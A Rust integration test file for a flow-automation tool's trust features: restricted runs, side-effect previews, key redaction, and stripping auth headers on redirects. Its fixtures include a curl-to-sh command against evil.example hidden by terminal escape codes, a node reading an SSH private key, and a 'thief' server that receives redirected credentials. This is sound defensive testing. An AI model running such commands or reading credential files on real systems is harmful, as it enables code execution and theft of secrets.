//! Trust for downloaded flows: restricted runs (engine, CLI, app), the side-effect
//! summary, the trusted folders, key variable names, and keys kept out of results.

use std::io;
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, OnceLock};
#[cfg(feature = "gui")]
use std::time::Instant;

#[cfg(feature = "gui")]
use eframe::egui;
#[cfg(feature = "gui")]
use flowcanvas::app::{FlowcanvasApp, StartOptions};
use flowcanvas::exec::{Engine, Event, RunRequest};
use flowcanvas::nodes::Registry;
use flowcanvas::plan::{plan, RunMode, Scope};
#[cfg(feature = "gui")]
use flowcanvas::session::commands::AppCommand;
#[cfg(feature = "gui")]
use flowcanvas::session::run_view::NodeStatus;
#[cfg(feature = "gui")]
use flowcanvas::ui::monitor::row_text;
use serde_json::Value as Json;

use crate::local_server::{respond, LocalServer, Received};
#[cfg(feature = "gui")]
use crate::support::frame;
use crate::support::{events_until_finished, output};

const BIN: &str = env!("CARGO_BIN_EXE_flowcanvas");

/// A flow that runs a command (which would leave a marker file), reads a file outside its
/// folder by a path made at run time, and has pure nodes on both sides.
const MIXED_FLOW: &str = r#"Flow(version: 1, nodes: [
    Node(id: "name", kind: "text", title: "Name", params: {"text": "world"}),
    Node(id: "greet", kind: "template", title: "Greeting", params: {"template": "Hello {name}!", "vars": ["name"]}),
    Node(id: "sh", kind: "shell", title: "Leave a marker", params: {"command": "echo ran > marker.txt; echo done"}),
    Node(id: "after", kind: "template", title: "After the command", params: {"template": "{out}", "vars": ["out"]}),
    Node(id: "where", kind: "template", title: "Where", params: {"template": "{dir}/outside.txt", "vars": ["dir"]}, values: {"dir": "OUTSIDE"}),
    Node(id: "peek", kind: "read_file", title: "Peek outside"),
], edges: ["name.text -> greet.name", "sh.stdout -> after.out", "where.text -> peek.path"])"#;

/// A folder holding `MIXED_FLOW` as `mixed.flow`, and a file outside it.
fn mixed_flow() -> (tempfile::TempDir, PathBuf) {
    let root = tempfile::tempdir().unwrap();
    let folder = root.path().join("downloads");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(root.path().join("outside.txt"), "private").unwrap();
    let text = MIXED_FLOW.replace("OUTSIDE", &root.path().display().to_string());
    let file = folder.join("mixed.flow");
    std::fs::write(&file, text).unwrap();
    (root, file)
}

fn skip_reason(events: &[Event], node: &str) -> Option<String> {
    events.iter().find_map(|e| match e {
        Event::NodeSkipped {
            node: n, reason, ..
        } if n.as_str() == node => Some(reason.clone()),
        _ => None,
    })
}

#[test]
fn restricted_run_blocks_shell_and_runs_pure_nodes() {
    let (_root, file) = mixed_flow();
    let folder = file.parent().unwrap().to_path_buf();
    let registry = Arc::new(Registry::builtin());
    let flow = flowcanvas::format::load(&file, &registry).unwrap();

    // The preview: plan, then restrict, exactly as the executor does.
    let planned = plan(&flow, &registry, &Scope::Flow, RunMode::All, &|_| false).unwrap();
    let preview = flowcanvas::trust::restrict(planned, &flow, &registry, &folder);
    let previewed: Vec<&str> = preview.steps.iter().map(|s| s.node.as_str()).collect();

    let mut engine = Engine::start(registry.clone()).unwrap();
    engine.submit(RunRequest::new(Arc::new(flow), &folder).restricted(true));
    let events = events_until_finished(&mut engine);

    assert_eq!(
        skip_reason(&events, "sh").as_deref(),
        Some("needs trust: runs a shell command")
    );
    assert_eq!(
        skip_reason(&events, "after").as_deref(),
        Some("upstream `Leave a marker` needs trust")
    );
    assert!(
        !folder.join("marker.txt").exists(),
        "the command must not run"
    );
    assert_eq!(
        output(&events, "greet", "text"),
        Some(flowcanvas::model::Value::Text("Hello world!".into())),
        "pure nodes run"
    );
    // The path arrived over a wire: refused as the node ran.
    let error = crate::support::failure(&events, "peek");
    assert!(
        error.starts_with("needs trust: reads a file outside the flow's folder"),
        "{error}"
    );
    let ran: Vec<String> = events
        .iter()
        .filter_map(|e| match e {
            Event::NodeStarted { node, .. } => Some(node.to_string()),
            _ => None,
        })
        .collect();
    assert_eq!(ran, previewed, "what the preview shows is what runs");
    assert!(preview.skipped.iter().any(|s| s.node.as_str() == "sh"));

    // Unrestricted, the same flow runs the command.
    let flow = flowcanvas::format::load(&file, &registry).unwrap();
    engine.submit(RunRequest::new(Arc::new(flow), &folder));
    let events = events_until_finished(&mut engine);
    assert!(skip_reason(&events, "sh").is_none(), "{events:#?}");
    assert!(folder.join("marker.txt").exists());
}

fn flowcanvas(args: &[&str], config: &Path) -> Output {
    Command::new(BIN)
        .args(args)
        .env("FLOWCANVAS_CONFIG_DIR", config)
        .output()
        .unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn run_restricted_exits_3_and_runs_nothing_outside_the_flow() {
    let (root, file) = mixed_flow();
    let out = flowcanvas(
        &["run", "--restricted", "--no-store", file.to_str().unwrap()],
        &root.path().join("config"),
    );
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("needs trust: runs a shell command"));
    assert!(
        text(&out.stderr).contains("did not run"),
        "{}",
        text(&out.stderr)
    );
    assert!(!file.with_file_name("marker.txt").exists());
}

const EFFECTS_FLOW: &str = r#"Flow(version: 1, nodes: [
    Node(id: "build", kind: "shell", title: "Build", params: {"command": "make site", "env": {"DEPLOY_TOKEN": "x"}}),
    Node(id: "fetch", kind: "http_request", title: "Fetch", params: {"headers": {"Authorization": "Bearer ${env:PRICES_TOKEN}"}}, values: {"url": "https://api.example.com/v1/prices?x=1"}),
    Node(id: "ask", kind: "llm_chat", title: "Ask", params: {"api_key_env": "OPENAI_API_KEY"}, values: {"base_url": "http://127.0.0.1:11434/v1"}),
    Node(id: "secret", kind: "read_file", title: "Read key", values: {"path": "../../.ssh/id_ed25519"}),
    Node(id: "notes", kind: "read_file", title: "Read notes", values: {"path": "notes.txt"}),
    Node(id: "where", kind: "path", title: "Where", params: {"path": "/tmp/elsewhere/out.txt"}),
    Node(id: "save", kind: "write_file", title: "Save"),
    Node(id: "words", kind: "text", params: {"text": "hi"}),
], edges: ["where.path -> save.path", "words.text -> save.content", "words.text -> ask.prompt"])"#;

#[test]
fn plan_lists_commands_hosts_outside_paths_and_env_vars() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("effects.flow");
    std::fs::write(&file, EFFECTS_FLOW).unwrap();
    let config = dir.path().join("config");

    let out = flowcanvas(
        &["plan", "--json", "--no-store", file.to_str().unwrap()],
        &config,
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let json: Json = serde_json::from_slice(&out.stdout).unwrap();
    let effects = &json["side_effects"];
    assert_eq!(effects["commands"], serde_json::json!(["make site"]));
    assert_eq!(
        effects["hosts"],
        serde_json::json!(["127.0.0.1:11434", "api.example.com"])
    );
    assert_eq!(
        effects["outside_paths"],
        serde_json::json!([
            {"path": "../../.ssh/id_ed25519", "access": "read"},
            {"path": "/tmp/elsewhere/out.txt", "access": "write"},
        ])
    );
    assert_eq!(
        effects["env_vars"],
        serde_json::json!(["DEPLOY_TOKEN", "OPENAI_API_KEY", "PRICES_TOKEN"])
    );
    let needs: Vec<(String, Json)> = effects["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| {
            (
                n["node"].as_str().unwrap().to_owned(),
                n["needs_trust"].clone(),
            )
        })
        .collect();
    assert!(
        needs.contains(&("notes".to_owned(), Json::Null)),
        "{needs:?}"
    );
    assert!(needs.contains(&(
        "build".to_owned(),
        Json::from("needs trust: runs a shell command")
    )));
    assert_eq!(json["restricted"], false);
    assert_eq!(json["steps"].as_array().unwrap().len(), 8);

    let out = flowcanvas(
        &["plan", "--no-store", "--restricted", file.to_str().unwrap()],
        &config,
    );
    let human = text(&out.stdout);
    for expected in [
        "commands: `make site`",
        "hosts: 127.0.0.1:11434, api.example.com",
        "outside the flow's folder: reads ../../.ssh/id_ed25519, writes /tmp/elsewhere/out.txt",
        "environment variables: DEPLOY_TOKEN, OPENAI_API_KEY, PRICES_TOKEN",
        "Build skipped: needs trust: runs a shell command",
        "Fetch skipped: needs trust: sends a request to api.example.com",
        "Read key skipped: needs trust: reads a file outside the flow's folder",
        "Save skipped: needs trust: writes a file (/tmp/elsewhere/out.txt)",
    ] {
        assert!(
            human.contains(expected),
            "missing {expected:?} in:\n{human}"
        );
    }
}

#[test]
fn api_key_env_path_is_a_load_error() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("key.flow");
    std::fs::write(
        &file,
        "Flow(version: 1, nodes: [\n    Node(id: \"ask\", kind: \"llm_chat\", params: {\"api_key_env\": \"PATH\"}),\n    Node(id: \"get\", kind: \"http_request\", params: {\"headers\": {\"X-Home\": \"${env:HOME}\"}}),\n], edges: [])\n",
    )
    .unwrap();
    let out = flowcanvas(
        &["validate", file.to_str().unwrap()],
        &dir.path().join("config"),
    );
    assert_eq!(out.status.code(), Some(2));
    let errors = text(&out.stderr);
    assert!(
        errors.contains("key.flow:2:10: node `ask`: `api_key_env`: `PATH` is not a key variable"),
        "{errors}"
    );
    assert!(
        errors.contains("key.flow:3:10: node `get`: header `X-Home`: `HOME` is not a key variable"),
        "{errors}"
    );
    let registry = Registry::builtin();
    assert!(flowcanvas::format::load(&file, &registry).is_err());

    // Names listed in the settings folder are keys too; `HOME` never is.
    let config = dir.path().join("listed");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(config.join("key-variables.txt"), "MY_API_PASS\nHOME\n").unwrap();
    let listed = dir.path().join("listed.flow");
    std::fs::write(
        &listed,
        "Flow(version: 1, nodes: [\n    Node(id: \"ask\", kind: \"llm_chat\", params: {\"api_key_env\": \"MY_API_PASS\"}),\n], edges: [])\n",
    )
    .unwrap();
    let out = flowcanvas(&["validate", listed.to_str().unwrap()], &config);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let out = flowcanvas(&["validate", file.to_str().unwrap()], &config);
    assert!(text(&out.stderr).contains("`HOME` is not a key variable"));
}

/// Answers every request with an error (or, on /echo, a success) whose body repeats the
/// request's Authorization header, as careless servers do.
fn echo_auth(req: &Received, s: &mut TcpStream) -> io::Result<()> {
    let auth = req.header("authorization").unwrap_or("none");
    let body = serde_json::json!({"error": {"message": format!("bad key: {auth}")}, "seen": auth});
    if req.path.starts_with("/echo") {
        respond(s, "200 OK", "application/json", &body.to_string())
    } else {
        respond(s, "401 Unauthorized", "application/json", &body.to_string())
    }
}

fn echo_server() -> &'static LocalServer {
    static SERVER: OnceLock<LocalServer> = OnceLock::new();
    SERVER.get_or_init(|| LocalServer::start(echo_auth))
}

/// Every file under `dir`, as text.
fn all_text_under(dir: &Path) -> String {
    let mut all = String::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else {
                all.push_str(&String::from_utf8_lossy(&std::fs::read(&path).unwrap()));
            }
        }
    }
    all
}

#[test]
fn error_body_repeating_the_key_is_redacted_in_store_and_json() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("ask.flow");
    let flow = r#"Flow(version: 1, nodes: [
        Node(id: "ask", kind: "llm_chat", params: {"api_key_env": "FLOWCANVAS_TEST_KEY", "model": "m"}, values: {"prompt": "hi", "base_url": "BASE/v1"}),
    ], edges: [])"#
        .replace("BASE", &echo_server().base);
    std::fs::write(&file, flow).unwrap();
    let secret = "sk-test-0123456789abcdef";
    let out = Command::new(BIN)
        .args(["run", "--json", file.to_str().unwrap()])
        .env("FLOWCANVAS_CONFIG_DIR", dir.path().join("config"))
        .env("FLOWCANVAS_TEST_KEY", secret)
        .output()
        .unwrap();
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(
        echo_server()
            .received()
            .iter()
            .any(|r| r.header("authorization") == Some(&format!("Bearer {secret}"))),
        "the key is sent"
    );
    assert!(
        !stdout.contains(secret),
        "the key leaked into JSON: {stdout}"
    );
    assert!(
        stdout.contains("[redacted FLOWCANVAS_TEST_KEY]"),
        "{stdout}"
    );
    let stored = all_text_under(&dir.path().join("ask.flow.d"));
    assert!(!stored.is_empty());
    assert!(!stored.contains(secret), "the key leaked into the store");
    assert!(
        stored.contains("[redacted FLOWCANVAS_TEST_KEY]"),
        "{stored}"
    );
}

#[test]
fn header_env_placeholder_is_resolved_and_redacted() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("get.flow");
    let flow = r#"Flow(version: 1, nodes: [
        Node(id: "get", kind: "http_request", params: {"headers": {"Authorization": "Bearer ${env:FLOWCANVAS_TEST_TOKEN}"}}, values: {"url": "BASE/echo/header"}),
    ], edges: [])"#
        .replace("BASE", &echo_server().base);
    std::fs::write(&file, &flow).unwrap();
    assert!(
        !flow.contains("tok-"),
        "no token is written into the .flow file"
    );
    let secret = "tok-9876543210fedcba";
    let run = |token: Option<&str>| {
        let mut command = Command::new(BIN);
        command
            .args(["run", "--json", file.to_str().unwrap()])
            .env("FLOWCANVAS_CONFIG_DIR", dir.path().join("config"))
            .env_remove("FLOWCANVAS_TEST_TOKEN");
        if let Some(token) = token {
            command.env("FLOWCANVAS_TEST_TOKEN", token);
        }
        command.output().unwrap()
    };
    let out = run(Some(secret));
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{stdout}{}", text(&out.stderr));
    assert!(
        echo_server()
            .received()
            .iter()
            .any(|r| r.header("authorization") == Some(&format!("Bearer {secret}"))),
        "the placeholder is resolved when the node runs"
    );
    assert!(!stdout.contains(secret), "{stdout}");
    assert!(
        stdout.contains("Bearer [redacted FLOWCANVAS_TEST_TOKEN]"),
        "{stdout}"
    );
    let stored = all_text_under(&dir.path().join("get.flow.d"));
    assert!(!stored.contains(secret), "the token leaked into the store");

    // An unset variable blocks the run (exit 5), naming it.
    let out = run(None);
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(5));
    assert!(
        stdout.contains(
            "header `Authorization`: environment variable `FLOWCANVAS_TEST_TOKEN` is not set"
        ),
        "{stdout}"
    );
}

#[test]
fn trust_command_adds_folder() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("config");
    let folder = dir.path().join("projects/site");
    std::fs::create_dir_all(&folder).unwrap();
    let relative_to = dir.path().join("projects");
    let out = Command::new(BIN)
        .args(["trust", "site/../site"])
        .current_dir(&relative_to)
        .env("FLOWCANVAS_CONFIG_DIR", &config)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let canonical = folder.canonicalize().unwrap();
    let list = std::fs::read_to_string(config.join("trusted-folders.txt")).unwrap();
    assert_eq!(list, format!("{}\n", canonical.display()));

    let out = flowcanvas(&["trust"], &config);
    assert_eq!(text(&out.stdout).trim(), canonical.display().to_string());
    let trusted = flowcanvas::trust::TrustList::load(&config);
    assert!(trusted.is_flow_trusted(&folder.join("deeper/x.flow")));

    let file = folder.join("x.flow");
    std::fs::write(&file, "").unwrap();
    let out = flowcanvas(&["trust", file.to_str().unwrap()], &config);
    assert_eq!(out.status.code(), Some(2), "a file is not a folder");
    let out = flowcanvas(&["trust", "/no/such/folder"], &config);
    assert_eq!(out.status.code(), Some(2));
}

/// The app on `file`, keeping its settings in `config`.
#[cfg(feature = "gui")]
fn app_on(file: &Path, config: &Path) -> (egui::Context, FlowcanvasApp) {
    let ctx = egui::Context::default();
    let app = FlowcanvasApp::new(
        &ctx,
        StartOptions {
            file: Some(file.to_path_buf()),
            no_recent: true,
            config_dir: Some(config.to_path_buf()),
            ..Default::default()
        },
    );
    (ctx, app)
}

#[cfg(feature = "gui")]
#[test]
fn untrusted_folder_opens_restricted_in_app() {
    let (root, file) = mixed_flow();
    let (ctx, mut app) = app_on(&file, &root.path().join("config"));
    frame(&ctx, &mut app);
    frame(&ctx, &mut app);
    assert!(
        app.is_restricted(),
        "a folder nobody trusted opens restricted"
    );

    // The banner is a strip above the canvas: it shrinks the canvas, never covers a node.
    let banner = egui::containers::panel::PanelState::load(&ctx, egui::Id::new("trust_banner"))
        .expect("the restricted-mode banner is drawn");
    assert!(banner.rect.height() > 20.0, "{:?}", banner.rect);
    let rects = &app.canvas.state.node_rects_last;
    assert!(!rects.is_empty());
    for (node, rect) in rects.iter() {
        assert!(
            rect.min.y >= banner.rect.max.y,
            "node `{node}` at {rect:?} is under the banner {:?}",
            banner.rect
        );
    }

    // The run panel previews the restricted plan.
    app.push(AppCommand::OpenRunPanel(Scope::Flow));
    frame(&ctx, &mut app);
    let registry = Registry::builtin();
    let preview = app
        .run_panel
        .preview(&app.session.doc, &registry, &app.session.run_view)
        .unwrap();
    assert!(preview.step_of("sh").is_none());
    assert!(preview
        .skipped
        .iter()
        .any(|s| s.node.as_str() == "sh" && s.reason == "needs trust: runs a shell command"));

    crate::support::run_flow_in_app(&ctx, &mut app);
    let view = app.session.run_view.node(&"sh".into()).unwrap();
    assert_eq!(view.status, NodeStatus::Skipped);
    assert_eq!(
        view.skip_reason.as_deref(),
        Some("needs trust: runs a shell command")
    );
    let greet = app.session.run_view.node(&"greet".into()).unwrap();
    assert_eq!(greet.status, NodeStatus::Succeeded, "pure nodes run");
    let row = row_text(
        &app.session.run_view,
        &app.session.derived.labels,
        &"sh".into(),
        Instant::now(),
    );
    assert!(
        row.contains("Leave a marker — blocked, needs trust: runs a shell command"),
        "the monitor names the node by title and says why: {row}"
    );
    assert!(!file.with_file_name("marker.txt").exists());
}

#[cfg(feature = "gui")]
#[test]
fn trust_button_lifts_restriction() {
    let (root, file) = mixed_flow();
    let config = root.path().join("config");
    let (ctx, mut app) = app_on(&file, &config);
    frame(&ctx, &mut app);
    assert!(app.is_restricted());
    app.push(AppCommand::TrustFolder);
    frame(&ctx, &mut app);
    assert!(!app.is_restricted(), "the button lifts the restriction");
    let folder = file.parent().unwrap().canonicalize().unwrap();
    let list = std::fs::read_to_string(config.join("trusted-folders.txt")).unwrap();
    assert_eq!(list.trim(), folder.display().to_string());

    crate::support::run_flow_in_app(&ctx, &mut app);
    let view = app.session.run_view.node(&"sh".into()).unwrap();
    assert_eq!(view.status, NodeStatus::Succeeded, "{:?}", view.error);
    assert!(file.with_file_name("marker.txt").exists());

    // The folder stays trusted: the next start opens the flow unrestricted.
    let (ctx, mut again) = app_on(&file, &config);
    frame(&ctx, &mut again);
    assert!(!again.is_restricted());
}

#[cfg(feature = "gui")]
#[test]
fn the_welcome_flow_and_new_flows_are_never_restricted() {
    let dir = tempfile::tempdir().unwrap();
    let ctx = egui::Context::default();
    let mut app = FlowcanvasApp::new(
        &ctx,
        StartOptions {
            no_recent: true,
            config_dir: Some(dir.path().join("config")),
            ..Default::default()
        },
    );
    frame(&ctx, &mut app);
    assert!(app.session.doc.path().is_none(), "the welcome flow opened");
    assert!(!app.is_restricted());
    app.push(AppCommand::New);
    frame(&ctx, &mut app);
    assert!(!app.is_restricted());
}

#[cfg(feature = "gui")]
#[test]
fn saving_your_own_flow_trusts_its_folder_but_saving_a_restricted_one_does_not() {
    let (root, file) = mixed_flow();
    let config = root.path().join("config");
    let (ctx, mut app) = app_on(&file, &config);
    frame(&ctx, &mut app);
    assert!(app.is_restricted());
    app.push(AppCommand::Save);
    frame(&ctx, &mut app);
    assert!(app.is_restricted(), "saving in place trusts nothing");
    assert!(!config.join("trusted-folders.txt").exists());

    // A flow of the user's own (here: what a Save As of a new flow leaves) saved into a
    // folder makes that folder trusted.
    let mine = root.path().join("mine");
    std::fs::create_dir_all(&mine).unwrap();
    let path = mine.join("own.flow");
    app.session.doc = flowcanvas::session::document::Document::new(
        app.session.doc.flow().clone(),
        Some(path),
        app.session.registry.clone(),
    );
    app.push(AppCommand::Save);
    frame(&ctx, &mut app);
    let list = std::fs::read_to_string(config.join("trusted-folders.txt")).unwrap();
    assert_eq!(
        list.trim(),
        mine.canonicalize().unwrap().display().to_string()
    );
    assert!(!app.is_restricted());
}

/// The server keys must not reach: it records what it is sent and answers 200.
fn thief_server() -> &'static LocalServer {
    static SERVER: OnceLock<LocalServer> = OnceLock::new();
    SERVER.get_or_init(|| LocalServer::start(|_, s| respond(s, "200 OK", "text/plain", "stolen")))
}

/// Redirects `/cross` to the thief (another origin) and `/same` to `/landed` on itself,
/// where it answers 200 with the `X-Api-Key` it was sent.
fn redirect_server() -> &'static LocalServer {
    static SERVER: OnceLock<LocalServer> = OnceLock::new();
    SERVER.get_or_init(|| {
        LocalServer::start(|req, s| {
            let moved = |s: &mut TcpStream, to: &str| {
                io::Write::write_all(
                    s,
                    format!("HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                        .as_bytes(),
                )
            };
            if req.path.starts_with("/cross") {
                moved(s, &format!("{}/steal", thief_server().base))
            } else if req.path.starts_with("/same") {
                moved(s, "/landed")
            } else {
                let key = req.header("x-api-key").unwrap_or("none");
                respond(s, "200 OK", "text/plain", &format!("key: {key}"))
            }
        })
    })
}

#[test]
fn env_key_headers_are_not_sent_on_a_redirect_to_another_origin() {
    let dir = tempfile::tempdir().unwrap();
    let secret = "tok-redirect-0123456789";
    let run = |path: &str| {
        let file = dir.path().join("get.flow");
        let flow = r#"Flow(version: 1, nodes: [
            Node(id: "get", kind: "http_request", params: {"headers": {"Authorization": "Bearer ${env:FLOWCANVAS_REDIRECT_TOKEN}", "X-Api-Key": "${env:FLOWCANVAS_REDIRECT_TOKEN}", "Accept": "text/plain"}}, values: {"url": "URL"}),
        ], edges: [])"#
            .replace("URL", &format!("{}{path}", redirect_server().base));
        std::fs::write(&file, flow).unwrap();
        Command::new(BIN)
            .args(["run", "--json", "--no-store", file.to_str().unwrap()])
            .env("FLOWCANVAS_CONFIG_DIR", dir.path().join("config"))
            .env("FLOWCANVAS_REDIRECT_TOKEN", secret)
            .output()
            .unwrap()
    };

    // To another origin: followed, but neither key header goes along.
    let out = run("/cross");
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    let stolen = thief_server().received();
    assert!(
        stolen.iter().any(|r| r.path == "/steal"),
        "the redirect is followed"
    );
    for request in &stolen {
        assert!(
            request.header("x-api-key").is_none() && request.header("authorization").is_none(),
            "the other origin saw a key: {request:?}"
        );
        assert!(!format!("{request:?}").contains(secret));
        assert_eq!(
            request.header("accept"),
            Some("text/plain"),
            "other headers go along"
        );
    }

    // On the same origin the key is still sent.
    let out = run("/same");
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{stdout}");
    assert!(
        redirect_server()
            .received()
            .iter()
            .any(|r| r.path == "/landed" && r.header("x-api-key") == Some(secret)),
        "a same-origin redirect keeps the key"
    );
}

#[test]
fn resume_and_retry_of_a_restricted_run_stay_restricted() {
    let (root, file) = mixed_flow();
    let config = root.path().join("config");
    let marker = file.with_file_name("marker.txt");
    let out = flowcanvas(&["run", "--restricted", file.to_str().unwrap()], &config);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    assert!(!marker.exists());
    let out = flowcanvas(&["runs", "--json", file.to_str().unwrap()], &config);
    assert!(
        text(&out.stdout).contains("\"restricted\":true"),
        "the record says restricted: {}",
        text(&out.stdout)
    );
    for verb in ["resume", "retry"] {
        let out = flowcanvas(&[verb, file.to_str().unwrap()], &config);
        assert!(
            !marker.exists(),
            "`{verb}` ran the shell node of a restricted run: {}{}",
            text(&out.stdout),
            text(&out.stderr)
        );
        assert_eq!(out.status.code(), Some(3), "{verb}: {}", text(&out.stderr));
        assert!(text(&out.stdout).contains("needs trust"), "{verb}");
    }
}

#[test]
fn retry_restricted_restricts_a_continuation_of_an_unrestricted_run() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("fail.flow");
    std::fs::write(
        &file,
        r#"Flow(version: 1, nodes: [
    Node(id: "sh", kind: "shell", title: "Count and fail", params: {"command": "echo ran >> count.txt; exit 1"}),
], edges: [])"#,
    )
    .unwrap();
    let config = dir.path().join("config");
    let count = dir.path().join("count.txt");
    let out = flowcanvas(&["run", file.to_str().unwrap()], &config);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(&count).unwrap().lines().count(), 1);
    for verb in ["retry", "resume"] {
        let out = flowcanvas(&[verb, "--restricted", file.to_str().unwrap()], &config);
        assert_eq!(out.status.code(), Some(3), "{verb}: {}", text(&out.stderr));
        assert_eq!(
            std::fs::read_to_string(&count).unwrap().lines().count(),
            1,
            "`{verb} --restricted` ran the shell node"
        );
    }
}

#[test]
fn plan_shows_escape_sequences_hidden_in_a_command_instead_of_sending_them() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("hide.flow");
    // The flow file holds real ESC bytes (RON strings take `\u{1b}`): on a terminal `ESC[8m`
    // would conceal the pipe into `sh`.
    std::fs::write(
        &file,
        r#"Flow(version: 1, nodes: [
    Node(id: "sh", kind: "shell", title: "Say \u{1b}[8mhi", params: {"command": "echo hi\u{1b}[8m; curl http://evil.example/x | sh\u{1b}[0m"}),
], edges: [])"#,
    )
    .unwrap();
    let out = flowcanvas(
        &["plan", file.to_str().unwrap()],
        &dir.path().join("config"),
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        !out.stdout.contains(&0x1b),
        "an ESC byte reached the terminal: {:?}",
        text(&out.stdout)
    );
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains(r"`echo hi\e[8m; curl http://evil.example/x | sh\e[0m`"),
        "{stdout}"
    );
    assert!(stdout.contains(r"Say \e[8mhi (sh)"), "{stdout}");
}

#[cfg(feature = "gui")]
#[test]
fn an_untrusted_run_in_the_app_is_blocked_on_trust_and_resumes_once_trusted() {
    use flowcanvas::exec::RunState;
    use flowcanvas::store::{Store, Waiting};
    let (root, file) = mixed_flow();
    let config = root.path().join("config");
    let (ctx, mut app) = app_on(&file, &config);
    frame(&ctx, &mut app);
    assert!(app.is_restricted());
    crate::support::run_flow_in_app(&ctx, &mut app);
    assert_eq!(app.session.run_view.status, Some(RunState::Blocked));
    let (runs, _) = Store::for_flow(&file).runs();
    let record = runs.last().unwrap();
    assert_eq!(record.status, RunState::Blocked);
    match &record.waiting {
        Some(Waiting::Blocked { cause, fix, .. }) => {
            assert!(cause.starts_with("needs trust: "), "{cause}");
            assert!(fix.starts_with("trust this folder"), "{fix}");
        }
        other => panic!("the record says it waits for trust: {other:?}"),
    }
    assert!(!file.with_file_name("marker.txt").exists());

    // Trusted, the run is resumed: what was left out runs now.
    app.push(AppCommand::TrustFolder);
    frame(&ctx, &mut app);
    assert!(!app.is_restricted());
    app.push(AppCommand::ContinueRun {
        run: record.id.clone(),
        how: flowcanvas::store::ContinueHow::Resume,
    });
    let deadline = Instant::now() + std::time::Duration::from_secs(20);
    while !file.with_file_name("marker.txt").exists() {
        assert!(
            Instant::now() < deadline,
            "the resumed run never ran the shell step"
        );
        frame(&ctx, &mut app);
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
}
